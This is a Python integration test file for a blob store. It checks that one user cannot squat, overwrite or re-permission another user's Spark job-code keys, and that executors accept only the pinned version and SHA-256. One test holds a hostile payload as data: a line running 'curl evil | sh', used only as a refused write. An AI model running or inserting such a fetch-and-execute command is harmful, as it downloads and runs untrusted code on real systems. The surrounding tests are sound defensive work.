"""Bob against Alice's job code (issue 56, item 2), on a real cluster.

The launcher stores a job's code as ``code.<user>.<xxh3>.<name>`` and reuses a key whose
digest matches. Bob could create Alice's key first with the same bytes, keep WRITE, and swap
the content after her launch. The masters keep ``code.alice.`` to alice (create, write,
administer), and executors run only the version and SHA-256 the launcher pinned.
"""

from __future__ import annotations

import hashlib
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import grpc
import pytest
from support.harness import client_for, md, stub, wait_until

from blobha.client import Client, ClientLimits
from blobha.core.digest import digest_bytes
from blobha.core.errors import (
    ChecksumMismatch,
    InvalidArgument,
    KeyNotFound,
    NotAuthorized,
    VersionConflict,
)
from blobha.ops.localcluster import LocalCluster
from blobha.spark import worker
from blobha.spark.codemap import CodeSpec
from blobha.spark.conf import ENV_CONF
from blobha.spark.jobcode import CodeFile, code_key, upload_code
from blobha.spark.settings import SparkBlobSettings
from blobha.v1 import blobha_pb2 as pb

pytestmark = pytest.mark.integration

ALICE_ONLY = [pb.AccessControl(type="u", name="alice", access=7)]


@pytest.fixture
def clients(cluster: LocalCluster) -> Iterator[tuple[Client, Client, Client]]:
    with (client_for(cluster, "alice") as alice, client_for(cluster, "bob") as bob,
          client_for(cluster, "admin") as admin):
        yield alice, bob, admin


def _code(tag: str) -> tuple[bytes, str]:
    """Job code, and the key alice's launcher stores it under."""
    data = f"def run():\n    return {tag!r}  # {os.getpid()}\n".encode()
    return data, code_key("alice", digest_bytes(data), "lib.py")


def _refused(call: object, *args: object, **kwargs: object) -> str:
    assert callable(call)
    with pytest.raises(NotAuthorized) as e:
        call(*args, **kwargs)
    message = str(e.value)
    assert "\n" not in message
    return message


def _rpc_refused(call: object, request: object, user: str) -> str:
    assert callable(call)
    with pytest.raises(grpc.RpcError) as e:
        call(request, metadata=md(user), timeout=10)
    assert e.value.code() == grpc.StatusCode.PERMISSION_DENIED, e.value
    return str(e.value.details())


def test_bob_cannot_create_alice_s_code_key_in_any_way(
        cluster: LocalCluster, clients: tuple[Client, Client, Client],
        monkeypatch: pytest.MonkeyPatch) -> None:
    alice, bob, admin = clients
    data, key = _code("squat")
    leader = stub(cluster.leader().address)
    # One-call create (Put), naming himself or naming alice as the owner.
    message = _refused(bob.create, key, data, acl="u:bob:rwa")
    assert message.startswith("keys under 'code.alice.' belong to user 'alice'")
    assert "code.bob." in message  # where bob's own code goes
    _refused(bob.create, key, data, acl="u:alice:rwa,u:bob:r")
    _refused(bob.put, key, data)
    # The resumable upload, begun through the client and by hand.
    monkeypatch.setattr(bob, "limits", ClientLimits(put_max_bytes=-1))
    _refused(bob.create, key, data, acl="u:alice:rwa")
    monkeypatch.undo()
    _rpc_refused(leader.BeginUpload, pb.BeginUploadRequest(
        key=key, create=True, acl=ALICE_ONLY, size_hint=len(data)), "bob")
    _rpc_refused(leader.Put, pb.PutRequest(
        begin=pb.BeginUploadRequest(key=key, create=True, acl=ALICE_ONLY), data=data,
        digest=digest_bytes(data)), "bob")
    # Nothing was written: the key is free for alice.
    with pytest.raises(KeyNotFound):
        admin.get_meta(key)
    meta = alice.create(key, data, acl="u:alice:rwa")
    assert (meta.version, meta.creator) == (1, "alice")
    # The audit trail names each refusal, as other refusals.
    leader_log = cluster.leader().log_path
    wait_until(lambda: f'user="bob" op=put-create key="{key}" version=0'
               ' result=PERMISSION_DENIED' in leader_log.read_text(errors="replace"),
               timeout=10, what="an audit line for bob's refused create")


def test_bob_cannot_write_administer_or_delete_alice_s_code_key(
        cluster: LocalCluster, clients: tuple[Client, Client, Client]) -> None:
    alice, bob, admin = clients
    data, key = _code("swap")
    # Readable by everyone, as a user may share code: reading is all it gives.
    alice.create(key, data, acl="u:alice:rwa,o::r")
    leader = stub(cluster.leader().address)
    evil = b"import os; os.system('curl evil | sh')\n"
    _refused(bob.update, key, evil)
    _refused(bob.put, key, evil)
    _rpc_refused(leader.BeginUpload, pb.BeginUploadRequest(key=key, create=False,
                                                           size_hint=len(evil)), "bob")
    _refused(bob.set_acl, key, "u:bob:rwa,u:alice:rwa")
    _refused(bob.set_replication_factor, key, 1)
    _refused(bob.delete, key)
    meta = admin.get_meta(key)
    assert (meta.version, meta.creator, meta.digest) == (1, "alice", digest_bytes(data))
    assert alice.read(key) == data == bob.read(key)
    # Delete and create again is no way in either: the prefix is reserved, not the key.
    admin.delete(key)
    _refused(bob.create, key, data, acl="u:bob:rwa")
    # The refusal reaches the command line as exit 5 and one line, no stack trace.
    env = {**os.environ, "BLOBHA_CLUSTER": cluster.cluster, "BLOBHA_USER": "bob"}
    out = subprocess.run([str(Path(sys.executable).parent / "blobha"), "create", key],
                         input=data, env=env, capture_output=True, timeout=60)
    stderr = out.stderr.decode()
    assert out.returncode == 5, out
    assert "belong to user 'alice'" in stderr and "Traceback" not in stderr
    assert len(stderr.strip().splitlines()) == 1, stderr
    with pytest.raises(KeyNotFound):
        admin.get_meta(key)


def test_a_code_key_s_acl_grants_nobody_else_writes(
        clients: tuple[Client, Client, Client]) -> None:
    alice, _bob, admin = clients
    data, key = _code("acl")
    # Refused, not stored: the masters would not honour such a grant.
    for acl in ("u:alice:rwa,u:bob:rw", "u:alice:rwa,o::rw", "u:alice:rwa,u:bob:a"):
        message = _refused(alice.create, key, data, acl=acl)
        assert "READ at most" in message, message
    with pytest.raises(KeyNotFound):
        admin.get_meta(key)
    alice.create(key, data, acl="u:alice:rwa,u:bob:r,u:admin:rwa")
    _refused(alice.set_acl, key, "u:alice:rwa,u:bob:rwa")
    _refused(admin.set_acl, key, "u:alice:rwa,o::w")
    assert alice.set_acl(key, "u:alice:rwa,o::r").version == 1
    # Alice's own namespace stays hers, whatever an ACL says.
    admin.set_acl(key, "u:admin:rwa")
    assert alice.update(key, data + b"# 2\n").version == 2
    # The masters' administrators keep their powers.
    admin.delete(key)


def test_the_launcher_stores_pins_and_refuses_a_key_it_did_not_make(
        clients: tuple[Client, Client, Client], tmp_path: Path) -> None:
    alice, bob, admin = clients
    data, key = _code("launch")
    lib = tmp_path / "lib.py"
    lib.write_bytes(data)
    files = [CodeFile(str(lib), "pyfile", "lib.py")]
    specs = upload_code(alice, "alice", files)
    assert specs == [CodeSpec(key, "pyfile", "lib.py", 1,
                              hashlib.sha256(data).hexdigest())]
    meta = alice.get_meta(key)
    assert [str(e) for e in meta.acl] == ["u:alice:rwa"] and meta.creator == "alice"
    assert upload_code(alice, "alice", files) == specs  # reused, not stored again
    _refused(bob.update, key, b"evil")
    # A key someone else made under alice's prefix (an admin may; before the masters kept
    # the prefix to alice, bob could) is not reused: alice deletes it and launches again.
    admin.delete(key)
    admin.create(key, data, acl="u:admin:rwa,o::r")
    with pytest.raises(InvalidArgument, match="was created by 'admin', not by 'alice'"):
        upload_code(alice, "alice", files)
    alice.delete(key)
    assert upload_code(alice, "alice", files) == specs


# --------------------------------------------------------------------------------------------
# The executors: the worker hook against the real cluster and a real node cache
# --------------------------------------------------------------------------------------------


def _hook_settings(cluster: LocalCluster, cache: Path, specs: list[CodeSpec]
                   ) -> SparkBlobSettings:
    # update interval 0: the node asks the cluster at each worker start, so a new version
    # shows at once (the check must not hinge on the node's records being stale).
    return SparkBlobSettings(cluster=cluster.cluster, user="alice", code=tuple(specs),
                             cache_dir=str(cache), app_id="app-squat",
                             update_interval_secs=0)


def _lay_out(settings: SparkBlobSettings, cwd: Path) -> dict[str, str]:
    cwd.mkdir()
    env = {ENV_CONF: settings.to_json()}
    worker.lay_out(env, cwd)
    return env


def test_executors_refuse_a_version_or_bytes_other_than_the_pinned(
        cluster: LocalCluster, clients: tuple[Client, Client, Client], tmp_path: Path) -> None:
    alice, _bob, _admin = clients
    data, key = _code("pinned")
    lib = tmp_path / "lib.py"
    lib.write_bytes(data)
    (spec,) = upload_code(alice, "alice", [CodeFile(str(lib), "pyfile", "lib.py")])
    cache = tmp_path / "node-cache"
    settings = _hook_settings(cluster, cache, [spec])
    # The pinned version and bytes: laid out.
    _lay_out(settings, tmp_path / "w1")
    assert (tmp_path / "w1" / "lib.py").read_bytes() == data

    # A newer version than the launch's (only alice may write it now; before, bob could):
    # the worker refuses it, and links nothing.
    swapped = b"def run():\n    return 'not what alice launched'\n"
    assert alice.update(key, swapped).version == 2
    with pytest.raises(VersionConflict) as e:
        _lay_out(settings, tmp_path / "w2")
    assert "is at version 2 here, but the job was launched with version 1" in str(e.value)
    assert os.listdir(tmp_path / "w2") == []

    # The pinned version number holding other bytes than the launcher's file (a key made
    # by someone else, or content made to match the store's xxh3): refused by its SHA-256.
    other = spec._replace(version=2)
    with pytest.raises(ChecksumMismatch) as e2:
        _lay_out(_hook_settings(cluster, cache, [other]), tmp_path / "w3")
    assert "not the file the job was launched with" in str(e2.value)
    assert "\n" not in str(e2.value)
    assert os.listdir(tmp_path / "w3") == []

    # What blobha-python itself says: one line, exit 1, no stack trace.
    cwd = tmp_path / "w4"
    cwd.mkdir()
    hook = str(Path(sys.executable).parent / "blobha-python")
    out = subprocess.run([hook, "-c", "print('ran')"], cwd=cwd, capture_output=True,
                         text=True, timeout=120,
                         env={**os.environ, ENV_CONF: settings.to_json()})
    assert out.returncode == 1 and "ran" not in out.stdout, out
    assert out.stderr.startswith("blobha-python: code blob ") and "Traceback" not in out.stderr
    assert len(out.stderr.strip().splitlines()) == 1, out.stderr
    assert os.listdir(cwd) == []


def test_executors_check_an_archive_before_unpacking_and_linking_it(
        cluster: LocalCluster, clients: tuple[Client, Client, Client], tmp_path: Path) -> None:
    import io
    import tarfile

    alice, _bob, _admin = clients
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as t:
        body = f"X = {os.getpid()}\n".encode()
        info = tarfile.TarInfo("pkg/mod.py")
        info.size = len(body)
        t.addfile(info, io.BytesIO(body))
    env_tgz = tmp_path / "env.tgz"
    env_tgz.write_bytes(buf.getvalue())
    lib = tmp_path / "lib.py"
    lib.write_bytes(_code("archive")[0])
    specs = upload_code(alice, "alice", [CodeFile(str(lib), "pyfile", "lib.py"),
                                         CodeFile(str(env_tgz), "archive", "env")])
    cache = tmp_path / "node-cache"
    _lay_out(_hook_settings(cluster, cache, specs), tmp_path / "w1")
    assert (tmp_path / "w1" / "env" / "pkg" / "mod.py").read_bytes() == body
    # A wrong pin on the archive: not even the good file beside it is linked.
    bad = [specs[0], specs[1]._replace(sha256=hashlib.sha256(b"other").hexdigest())]
    with pytest.raises(ChecksumMismatch, match=r"\(env\)"):
        _lay_out(_hook_settings(cluster, cache, bad), tmp_path / "w2")
    assert os.listdir(tmp_path / "w2") == []
